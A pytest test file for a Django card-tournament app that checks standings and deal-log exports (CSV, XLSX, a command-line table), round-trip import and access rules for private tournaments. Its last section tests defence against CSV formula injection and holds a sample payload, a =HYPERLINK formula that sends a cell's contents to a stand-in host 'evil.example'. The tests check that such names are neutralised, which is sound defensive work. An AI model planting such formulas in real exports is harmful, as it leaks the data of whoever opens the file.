"""Standings and deal log out: datasets, downloads, the `standings` command, and export then
import giving the same standings."""

import csv
import datetime
import io
import random
from io import StringIO
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.template.loader import render_to_string
from django.urls import reverse
from django.utils import translation

from club.models import Player
from events import services
from events.models import Pairing, Tournament
from exchange.exporting import deal_log_dataset, standings_dataset
from exchange.importing import import_plan_apply, parse_deal_log
from scoring import rules
from scoring import services as scoring_services
from scoring.models import Match

# The import and export URLs, until `events.urls` includes `exchange.urls`.

pytestmark = pytest.mark.django_db

FIXTURES = Path(__file__).parent.parent / "fixtures"
GOOD = (FIXTURES / "good.csv").read_text(encoding="utf-8")
STANDINGS_HEADER = (
    "rank,player,withdrawn,played,won,lost,gp_for,gp_against,game_point_difference,"
    "head_to_head,game_points_scored,sonneborn_berger,lots"
)
# good.csv worked out by hand in test_importing.py.
GOOD_STANDINGS_CSV = (
    f"{STANDINGS_HEADER}\n"
    "1,Анна Иванова,,2,1,1,19,13,6,1,19,1,\n"
    "2,Борис Петров,,2,1,1,12,14,-2,1,12,1,\n"
    "3,Вера Колева,,2,1,1,15,19,-4,1,15,1,\n"
)


def imported(data: bytes, name="Купа Русе") -> Tournament:
    with translation.override("en"):
        plan = parse_deal_log(data)
        assert plan.errors == []
        return import_plan_apply(plan=plan, name=name, date=datetime.date(2026, 12, 5),
                                 house_rules=rules.HouseRules(), organiser=None)


@pytest.fixture
def good() -> Tournament:
    return imported(GOOD.encode())


def test_standings_dataset_by_hand(good):
    data = standings_dataset(good)
    assert data.export("csv", lineterminator="\n") == GOOD_STANDINGS_CSV
    assert data[0] == (1, "Анна Иванова", None, 2, 1, 1, 19, 13, 6, 1, 19, 1, None)


def test_tie_break_columns_follow_the_tournaments_order(good):
    good.tie_breaks = ["sonneborn_berger", "game_points_scored"]
    good.save()
    data = standings_dataset(good)
    assert data.headers == ["rank", "player", "withdrawn", "played", "won", "lost", "gp_for",
                            "gp_against", "game_point_difference", "sonneborn_berger",
                            "game_points_scored"]
    # Scored decides now: Анна 19, Вера 15, Борис 12.
    assert [(row[0], row[1], row[-1]) for row in data] == [
        (1, "Анна Иванова", 19), (2, "Вера Колева", 15), (3, "Борис Петров", 12)
    ]


def test_deal_log_of_an_imported_file_is_the_file_itself(good):
    assert deal_log_dataset(good).export("csv", lineterminator="\n") == GOOD


# --------------------------------------------------------------------------------------------
# Export then import
# --------------------------------------------------------------------------------------------

OUTCOMES = [("A", 1, "won"), ("B", 1, "won"), ("A", 2, "schneider"), ("B", 2, "schneider"),
            ("A", 3, "capot"), ("B", 3, "false_claim"), ("A", 3, "closer_failed"),
            ("B", 3, "opponent_out_after_close"), (None, 0, "draw")]


def played_tournament(tournament: Tournament, organiser, seed: int = 5) -> Tournament:
    """The conftest tournament (5 players) started and played with random deals; the last
    two matches stop half-way. No lots in the tie-breaks: an import has no drawing of lots."""
    tournament.tie_breaks = ["head_to_head", "game_point_difference", "game_points_scored",
                             "sonneborn_berger"]
    tournament.save()
    rng = random.Random(seed)
    services.tournament_start(tournament=tournament, rng=rng)
    pairings = list(Pairing.objects.filter(round__tournament=tournament, match__isnull=False)
                    .order_by("round__number", "table").select_related("match"))
    for index, pairing in enumerate(pairings):
        match, deals = pairing.match, 0
        while not match.is_over and (index < len(pairings) - 2 or deals < 4):
            winner, points, reason = rng.choice(OUTCOMES)
            scoring_services.deal_record(
                match=match, score=rules.quick_result(winner, points, reason), by=organiser
            )
            match.refresh_from_db()
            deals += 1
    tournament.refresh_from_db()
    return tournament


def same_standings(first: Tournament, second: Tournament) -> None:
    second.tie_breaks = first.tie_breaks
    second.save()
    assert standings_dataset(second).dict == standings_dataset(first).dict


def test_export_then_import_gives_the_same_standings(tournament, organiser):
    original = played_tournament(tournament, organiser)
    assert original.status == Tournament.Status.RUNNING
    assert Match.objects.filter(status="playing").count() == 2
    log = deal_log_dataset(original).export("csv")
    copy = imported(log.encode())
    same_standings(original, copy)
    assert copy.status == Tournament.Status.RUNNING
    assert deal_log_dataset(copy).export("csv") == log
    # Rounds with a bye keep their table numbers; the resting player is simply absent.
    assert sorted(copy.rounds.values_list("number", flat=True)) == [1, 2, 3, 4, 5]


def test_export_then_import_through_the_pages(tournament, organiser, organiser_client,
                                             django_capture_on_commit_callbacks):
    original = played_tournament(tournament, organiser, seed=11)
    download = organiser_client.get(reverse("data:deals_csv", args=[original.pk]))
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile("deals.csv", download.content, content_type="text/csv")
    preview = organiser_client.post(reverse("data:import_preview"), {
        "file": upload, "name": "Копие", "date": "2026-12-06", "rules": "default",
    })
    assert preview.status_code == 200
    with django_capture_on_commit_callbacks(execute=True):  # the import task, eagerly
        confirm = organiser_client.post(reverse("data:import_confirm"),
                                        {"job": preview.context["job"].pk})
    assert confirm.status_code == 302
    same_standings(original, Tournament.objects.get(name="Копие"))


# --------------------------------------------------------------------------------------------
# Downloads
# --------------------------------------------------------------------------------------------


def test_standings_csv_download_for_anyone_on_a_public_tournament(client, good):
    response = client.get(reverse("data:standings_csv", args=[good.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''%D0%BA%D1%83%D0%BF%D0%B0-%D1%80%D1%83%D1%81%D0%B5"
        "-standings.csv"
    )
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # for Excel
    assert text[1:].replace("\r\n", "\n") == GOOD_STANDINGS_CSV


def test_ascii_names_give_a_plain_filename(client):
    tournament = imported(GOOD.encode(), name="Winter Cup 2026")
    response = client.get(reverse("data:deals_csv", args=[tournament.pk]))
    assert response["Content-Disposition"] == 'attachment; filename="winter-cup-2026-deals.csv"'
    text = response.content.decode("utf-8-sig").replace("\r\n", "\n")
    assert text == GOOD


def test_standings_xlsx_download(client, good):
    response = client.get(reverse("data:standings_xlsx", args=[good.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"].startswith("attachment; filename")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == STANDINGS_HEADER.split(",")
    assert rows[1] == [1, "Анна Иванова", None, 2, 1, 1, 19, 13, 6, 1, 19, 1, None]
    assert len(rows) == 4


def test_deals_csv_reads_back_as_csv(client, good):
    response = client.get(reverse("data:deals_csv", args=[good.pk]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 20
    assert rows[3] == {"round": "1", "table": "1", "player_a": "Анна Иванова",
                       "player_b": "Борис Петров", "deal": "4", "winner": "draw",
                       "game_points": "0", "reason": "draw"}


@pytest.mark.parametrize("url", ["data:standings_csv", "data:standings_xlsx",
                                 "data:deals_csv"])
def test_private_tournament_is_404_for_anonymous_and_outsiders(
    client, outsider_client, organiser_client, organiser, good, url
):
    good.is_public = False
    good.save()
    good.organisers.add(organiser)
    assert client.get(reverse(url, args=[good.pk])).status_code == 404
    assert outsider_client.get(reverse(url, args=[good.pk])).status_code == 404
    assert organiser_client.get(reverse(url, args=[good.pk])).status_code == 200


def test_export_links_partial(good):
    page = render_to_string("exchange/partials/export_links.html", {"tournament": good})
    for url in ("data:standings_csv", "data:standings_xlsx", "data:deals_csv"):
        assert f'href="{reverse(url, args=[good.pk])}"' in page


@pytest.mark.parametrize("url", ["data:standings_csv", "data:deals_csv"])
def test_downloads_are_get_only(client, good, url):
    assert client.post(reverse(url, args=[good.pk])).status_code == 405
    assert client.get(reverse(url, args=[good.pk + 1])).status_code == 404


# --------------------------------------------------------------------------------------------
# The standings command
# --------------------------------------------------------------------------------------------


def test_standings_command_text_is_an_aligned_table(good):
    out = StringIO()
    call_command("standings", str(good.pk), stdout=out)
    lines = out.getvalue().splitlines()
    assert lines[0].split() == STANDINGS_HEADER.split(",")
    assert set(lines[1]) == {"-", " "}
    assert [line.split() for line in lines[2:]] == [
        ["1", "Анна", "Иванова", "-", "2", "1", "1", "19", "13", "6", "1", "19", "1", "-"],
        ["2", "Борис", "Петров", "-", "2", "1", "1", "12", "14", "-2", "1", "12", "1", "-"],
        ["3", "Вера", "Колева", "-", "2", "1", "1", "15", "19", "-4", "1", "15", "1", "-"],
    ]
    # Aligned: every column ends (numbers) or starts (the name) at the same place.
    assert lines[2].index("Анна") == lines[3].index("Борис") == lines[0].index("player")
    assert len({len(line) for line in lines[:2]}) == 1
    assert lines[2].endswith("    -")
    assert lines[0][:4] == "rank" and lines[2][:4] == "   1"


def test_standings_command_csv(good):
    out = StringIO()
    call_command("standings", str(good.pk), "--format", "csv", stdout=out)
    assert out.getvalue() == GOOD_STANDINGS_CSV


def test_standings_command_unknown_tournament():
    with pytest.raises(CommandError, match="There is no tournament 999."):
        call_command("standings", "999")


# --------------------------------------------------------------------------------------------
# Names that a spreadsheet would run as formulas (OWASP "CSV injection")
# --------------------------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Анна")'
RENAMED = {"Анна Иванова": HYPERLINK, "Борис Петров": "@Борис", "Вера Колева": "-Вера"}


@pytest.fixture
def formulas() -> Tournament:
    """good.csv with the names a spreadsheet would run: ranks and game points as in
    test_importing.py (Анна +6, Борис -2, Вера -4)."""
    rows = list(csv.reader(io.StringIO(GOOD)))
    for row in rows[1:]:
        row[2], row[3] = RENAMED[row[2]], RENAMED[row[3]]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return imported(out.getvalue().encode())


def test_standings_csv_quotes_formula_names_and_keeps_numbers(client, formulas):
    response = client.get(reverse("data:standings_csv", args=[formulas.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row[:9] for row in rows[1:]] == [
        ["1", "'" + HYPERLINK, "", "2", "1", "1", "19", "13", "6"],
        ["2", "'@Борис", "", "2", "1", "1", "12", "14", "-2"],
        ["3", "'-Вера", "", "2", "1", "1", "15", "19", "-4"],
    ]
    # The difference -4 is written as the number it is, not quoted as text.
    assert "\r\n3,'-Вера,,2,1,1,15,19,-4,1,15,1,\r\n" in response.content.decode("utf-8-sig")


def test_standings_xlsx_has_formula_names_as_text_cells(client, formulas):
    response = client.get(reverse("data:standings_xlsx", args=[formulas.pk]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [cell.value for cell in sheet[1]] == STANDINGS_HEADER.split(",")
    names = [sheet.cell(row=row, column=2) for row in (2, 3, 4)]
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in names] == [
        (HYPERLINK, "s", True), ("@Борис", "s", True), ("-Вера", "s", True),
    ]
    differences = [sheet.cell(row=row, column=9) for row in (2, 3, 4)]
    assert [(cell.value, cell.data_type) for cell in differences] == [
        (6, "n"), (-2, "n"), (-4, "n")
    ]
    assert sheet.cell(row=2, column=1).data_type == "n"
    assert sheet.cell(row=2, column=13).value is None  # lots: not applied


def test_deal_log_csv_quotes_formula_names_and_imports_back_to_them(client, formulas):
    response = client.get(reverse("data:deals_csv", args=[formulas.pk]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert (rows[0]["player_a"], rows[0]["player_b"]) == ("'" + HYPERLINK, "'@Борис")
    assert {row["player_a"] for row in rows} == {"'" + HYPERLINK, "'-Вера", "'@Борис"}
    copy = imported(response.content)
    assert sorted(entry.player.name for entry in copy.entries.all()) == sorted(RENAMED.values())
    same_standings(formulas, copy)


def test_standings_command_csv_quotes_formula_names(formulas):
    out = StringIO()
    call_command("standings", str(formulas.pk), "--format", "csv", stdout=out)
    assert out.getvalue().splitlines()[3] == "3,'-Вера,,2,1,1,15,19,-4,1,15,1,"


def test_xlsx_leaves_out_characters_a_workbook_cannot_hold(client, good):
    Player.objects.filter(name="Вера Колева").update(name="Вера\x07 Колева")
    response = client.get(reverse("data:standings_xlsx", args=[good.pk]))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.cell(row=4, column=2).value == "Вера Колева"
